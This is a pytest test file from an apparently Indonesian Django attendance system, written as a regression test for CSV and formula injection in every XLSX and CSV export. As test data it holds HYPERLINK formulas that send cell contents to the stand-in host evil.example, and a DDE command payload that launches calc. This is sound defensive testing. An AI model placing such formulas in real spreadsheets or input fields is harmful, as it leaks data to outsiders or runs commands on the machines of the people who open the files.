"""Exports are data, not code (issue 19, item 6): OWASP's CSV-injection rule in every XLSX and CSV.

A self-registered name ``=HYPERLINK("http://…?"&B2&C2,"Buka data")`` became a live formula in the
admin XLSX/CSV export, the daftar hadir and the online-attendance XLSX. Here a person, their unit,
the event, a session, a scanner gate and a follow-up carry a value starting with each dangerous
character in every text field, and every export of the project is read back: no cell is a formula,
every value is the text as typed (XLSX), or starts with a single quote (CSV).
"""

import csv
import datetime as dt
import io
import uuid
import zoneinfo
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from attendance.checkin import checkin_perform
from attendance.models import CheckInWindow, Participant, ScannerDevice
from rakor import exports
from attendance.models import OnlineAttendance
from minutes.models import ActionItem, ActionItemEvidence
from tests.factories import EventFactory, ParticipantFactory, RegistrationFactory, UnitFactory, organiser
from tests.minutes.factories_minutes import final_minutes, make_session, notulis

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("after_the_sessions")]  # minutes are finalised after their session

PREFIXES = ["=", "+", "-", "@", "\t", "\r"]
EVIL = "evil.example"


def payload(prefix: str, field: str) -> str:
    """The attack, short enough for every field (a NIP column holds 40 characters)."""
    return f'{prefix}HYPERLINK("//{EVIL}/{field}?"&B2)'


# ---------------------------------------------------------------- the helper itself


@pytest.mark.parametrize("prefix", PREFIXES)
def test_safe_cell_quotes_every_dangerous_string(prefix):
    assert exports.safe_cell(prefix + "1+1") == "'" + prefix + "1+1"


@pytest.mark.parametrize("value", ["Ahmad Fauzi", "", "1975", " =1+1", "a=1", "Kab. Garut - Jabar", None, 0, -3,
                                   2.5, -0.5, True, dt.date(2022, 11, 21)])
def test_safe_cell_leaves_harmless_values_and_numbers_alone(value):
    assert exports.safe_cell(value) == value


def _read_back(workbook) -> list:
    data = exports.xlsx_save(workbook)
    sheet = load_workbook(io.BytesIO(data)).active
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]


@pytest.mark.parametrize("write_only", [False, True])
def test_xlsx_cells_keep_text_as_typed_and_numbers_as_numbers(write_only):
    from openpyxl.cell import WriteOnlyCell

    workbook = exports.new_workbook(write_only=write_only)
    sheet = workbook.create_sheet("a") if write_only else workbook.active
    styled = WriteOnlyCell(sheet, value="=2+2") if write_only else "=2+2"
    exports.xlsx_append(sheet, ["=1+1", "+6281234567890", "-5", "@SUM(A1)", "\tx", "\rx", -5, 3.5, "Ahmad", styled])
    assert _read_back(workbook) == [
        ("=1+1", "s"), ("+6281234567890", "s"), ("-5", "s"), ("@SUM(A1)", "s"), ("\tx", "s"), ("\rx", "s"),
        (-5, "n"), (3.5, "n"), ("Ahmad", "s"), ("=2+2", "s")]


def test_xlsx_save_also_catches_a_value_put_straight_into_a_cell():
    workbook = exports.new_workbook()
    workbook.active["B2"] = "=HYPERLINK(\"http://x\")"
    assert workbook.active["B2"].data_type == "f"  # what openpyxl does on its own
    assert ("=HYPERLINK(\"http://x\")", "s") in _read_back(workbook)


def test_csv_lines_quote_dangerous_values_only():
    lines = list(exports.csv_lines([["Nama", "WhatsApp", "Jumlah"], ["=cmd|' /C calc'!A0", "+62812", -2]]))
    rows = list(csv.reader(io.StringIO("".join(lines).lstrip("\ufeff"))))
    assert lines[0].startswith("\ufeff")
    assert rows == [["Nama", "WhatsApp", "Jumlah"], ["'=cmd|' /C calc'!A0", "'+62812", "-2"]]


def test_every_export_goes_through_the_helper():
    """One rule, one place: no module writes a workbook or a CSV file but rakor/exports.py."""
    root = Path(__file__).resolve().parents[2]
    apps = [p.parent for p in root.glob("*/apps.py")]
    assert {a.name for a in apps} >= {"rakor", "attendance", "certificates"}
    offenders = []
    for path in (f for app in apps for f in app.rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if relative == "rakor/exports.py" or "/migrations/" in relative:
            continue
        text = path.read_text(encoding="utf-8")
        for needle in ("import Workbook", "Workbook(", "csv.writer(", "csv.DictWriter("):
            if needle in text:
                offenders.append(f"{relative}: {needle}")
    assert offenders == []


# ---------------------------------------------------------------- every export of the project


@pytest.fixture
def world(request):
    """Everything a person or an organiser can type, starting with `prefix`, in one event running today."""
    prefix = request.param
    tz = zoneinfo.ZoneInfo("Asia/Jakarta")
    today = timezone.localtime(timezone.now(), tz).date()
    event = EventFactory(name=payload(prefix, "event"), theme=payload(prefix, "theme"), venue=payload(prefix, "venue"),
                         start_date=today, end_date=today + dt.timedelta(days=1), time_zone="Asia/Jakarta")
    for day in event.days:
        CheckInWindow.objects.create(event=event, date=day, opens=dt.time(0, 0), closes=dt.time(23, 59, 59))
    unit = UnitFactory(name=payload(prefix, "unit"), province=payload(prefix, "province"), code=prefix + "kode-unit")
    person = ParticipantFactory(
        full_name=payload(prefix, "name"), id_kind=Participant.IdKind.OTHER, id_number=payload(prefix, "number"),
        position=payload(prefix, "position"), rank=payload(prefix, "rank"), unit=unit,
        email=f"{prefix}x@{EVIL}", whatsapp=f"{prefix}6281234567890")
    reg = RegistrationFactory(event=event, participant=person, status_reason=payload(prefix, "reason"),
                              modes=["in_person", "online"])
    device = ScannerDevice.objects.create(event=event, name=payload(prefix, "gate"), token_hash="x" * 64,
                                          token_prefix="xxxxxxxx")
    outcome = checkin_perform(event=event, ticket=reg.ticket, nonce=uuid.uuid4(), device=device)
    assert outcome.result == "ok"
    session = make_session(event, title=payload(prefix, "session"))
    OnlineAttendance.objects.create(registration=reg, session=session, first_joined_at=timezone.now(),
                                    heartbeat_minutes=12)
    org = organiser()
    final_minutes(session, notulis(), org, items=[{"what": payload(prefix, "follow-up"), "unit": unit.pk,
                                                   "due": today.isoformat()}])
    item = ActionItem.objects.get(event=event)
    # The minutes form trims what is typed; a follow-up edited elsewhere may still start with a tab.
    ActionItem.objects.filter(pk=item.pk).update(what=payload(prefix, "follow-up"),
                                                 progress_note=payload(prefix, "progress"))
    ActionItemEvidence.objects.create(item=item, note=payload(prefix, "evidence"))
    return {"prefix": prefix, "event": event, "reg": reg, "session": session, "org": org, "person": person}


def xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_xlsx_is_data(content: bytes, expected: set[str]):
    cells = xlsx_cells(content)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    shown = {c.value for c in cells if isinstance(c.value, str) and (EVIL in c.value or "kode-unit" in c.value)}
    # Each value is the person's text exactly as typed: no quote added, nothing cut.
    assert expected <= shown, expected - shown
    assert all(c.data_type == "s" for c in cells if c.value in expected)


def texts(world, *fields) -> set[str]:
    return {payload(world["prefix"], f) for f in fields}


def admin_exports(client, world):
    data = {"_selected_action": [world["reg"].pk], "index": 0}
    changelist = reverse("admin:attendance_registration_changelist")
    person_fields = ("name", "number", "position", "rank", "unit", "province", "reason")
    phone, email = f"{world['prefix']}6281234567890", f"{world['prefix']}x@{EVIL}"

    response = client.post(changelist, {**data, "action": "export_xlsx"})
    assert_xlsx_is_data(response.content, texts(world, *person_fields) | {email})
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in sheet[2] if c.value == phone] == [phone]

    response = client.post(changelist, {**data, "action": "export_csv"})
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))
    dangerous = [cell for row in rows for cell in row if EVIL in cell or cell.endswith("6281234567890")]
    assert sorted(dangerous) == sorted("'" + v for v in texts(world, *person_fields) | {email, phone})


def daftar_hadir_xlsx(client, world):
    event = world["event"]
    response = client.get(f"/e/{event.slug}/daftar-hadir/{event.start_date.isoformat()}.xlsx")
    assert response.status_code == 200
    assert_xlsx_is_data(response.content, texts(world, "event", "theme", "name", "position", "unit", "gate"))


def recap_xlsx(client, world):
    response = client.get(f"/e/{world['event'].slug}/rekap.xlsx")
    assert response.status_code == 200
    assert_xlsx_is_data(response.content, texts(world, "event", "unit", "province", "session"))
    counts = [c.value for c in xlsx_cells(response.content) if c.data_type == "n" and c.value is not None]
    assert counts and all(isinstance(v, int) for v in counts)  # numbers stay numbers


def online_attendance_xlsx(client, world):
    response = client.get(f"/e/{world['event'].slug}/online/{world['session'].pk}/kehadiran.xlsx")
    assert response.status_code == 200
    assert_xlsx_is_data(response.content, texts(world, "event", "session", "name", "position", "unit"))


def follow_up_register_xlsx(client, world):
    response = client.get(f"/e/{world['event'].slug}/tindak-lanjut/?format=xlsx")
    assert response.status_code == 200
    assert_xlsx_is_data(response.content, texts(world, "follow-up", "unit", "session", "progress", "evidence"))


def import_template_xlsx(client, world):
    response = client.get(reverse("admin:attendance_registration_import_template", args=[world["event"].pk]))
    assert response.status_code == 200
    assert_xlsx_is_data(response.content, {world["prefix"] + "kode-unit"})


EXPORTS = [admin_exports, daftar_hadir_xlsx, recap_xlsx, online_attendance_xlsx, follow_up_register_xlsx,
           import_template_xlsx]


@pytest.mark.parametrize("world", PREFIXES, indirect=True, ids=repr)
def test_every_export_writes_text_as_data(client, world):
    """One world per prefix (building it finalises minutes, the slow part), every export read back."""
    client.force_login(world["org"])
    failed = []
    for export in EXPORTS:
        try:
            export(client, world)
        except AssertionError as exc:
            failed.append(f"{export.__name__}: {exc}")
    assert failed == []
